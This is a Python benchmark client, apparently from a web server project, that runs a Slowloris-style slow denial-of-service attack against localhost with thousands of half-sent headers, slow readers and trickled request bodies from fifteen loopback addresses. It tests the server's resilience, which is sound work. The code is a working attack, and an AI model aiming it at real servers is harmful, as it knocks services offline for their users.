"""A slow attack (Slowloris) on a server: ``python -m benchmarks.clients.attack PORT``.

Thousands of incomplete requests, answers read at a byte per second, and bodies sent at a byte per
second, from fifteen addresses. Each connection is opened again after the server closes it. Prints a
line once each connection was tried; runs until killed.
"""

import asyncio
import resource
import socket
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import count
from typing import Final

HALF_SENT: Final = 3000
SLOW_READERS: Final = 50
TRICKLED: Final = 200
_SERVER: Final = "127.0.0.1"
# The server trusts only 127.0.0.1 as a proxy; these addresses are ordinary clients.
_ADDRESSES: Final = tuple(f"127.0.1.{n}" for n in range(1, 16))
_MOST_CONNECTING: Final = 20
"""Most connections that are being opened at the same time."""
_RESTART_AFTER: Final = 5.0
"""Seconds before a closed connection is opened again, so that reconnecting is no flood."""
_SMALL_BUFFER: Final = 4096

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def send_half_request(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send half a request header, then a byte every nine seconds, within usual timeouts."""
    writer.write(b"GET /zones HTTP/1.1\r\nHost: kota.example\r\nX: ")
    while not writer.is_closing():
        await asyncio.sleep(9)
        writer.write(b"a")
        await writer.drain()


async def read_slowly(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Request the largest answer, and read a byte per second."""
    writer.write(b"GET /zones?level=rt HTTP/1.1\r\nHost: kota.example\r\n\r\n")
    while await reader.read(1):
        await asyncio.sleep(1)


async def trickle(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a body, a byte per second."""
    writer.write(b"POST /locate HTTP/1.1\r\nHost: kota.example\r\nContent-Type: application/json")
    writer.write(b"\r\nContent-Length: 60000\r\n\r\n")
    while not writer.is_closing():
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(1)


async def _repeat(
    port: int, address: str, attack: Attack, report_start: Callable[[], None]
) -> None:
    has_reported = False
    while True:
        with suppress(OSError, TimeoutError):
            async with _CONNECTING:
                reader, writer = await _connect(port, address)
            try:
                if not has_reported:
                    report_start()
                    has_reported = True
                await attack(reader, writer)
            finally:
                writer.close()
        if not has_reported:
            report_start()
            has_reported = True
        await asyncio.sleep(_RESTART_AFTER)


async def _connect(port: int, address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
    sock.setblocking(False)
    sock.bind((address, 0))
    await asyncio.wait_for(
        asyncio.get_running_loop().sock_connect(sock, (_SERVER, port)), timeout=10
    )
    return await asyncio.open_connection(sock=sock, limit=_SMALL_BUFFER)


_CONNECTING: Final = asyncio.Semaphore(_MOST_CONNECTING)


async def _attack(port: int) -> None:
    attacks = [send_half_request] * HALF_SENT + [read_slowly] * SLOW_READERS + [trickle] * TRICKLED
    all_started = asyncio.Event()
    number = count(1)

    def report_start() -> None:
        if next(number) == len(attacks):
            all_started.set()

    tasks = [
        asyncio.create_task(_repeat(port, _ADDRESSES[n % len(_ADDRESSES)], attack, report_start))
        for n, attack in enumerate(attacks)
    ]
    await all_started.wait()
    print(
        f"{HALF_SENT} half requests, {SLOW_READERS} slow readers, {TRICKLED} bodies that trickle "
        f"have begun",
        flush=True,
    )
    await asyncio.gather(*tasks)


def main() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(_attack(int(sys.argv[1])))


if __name__ == "__main__":
    main()
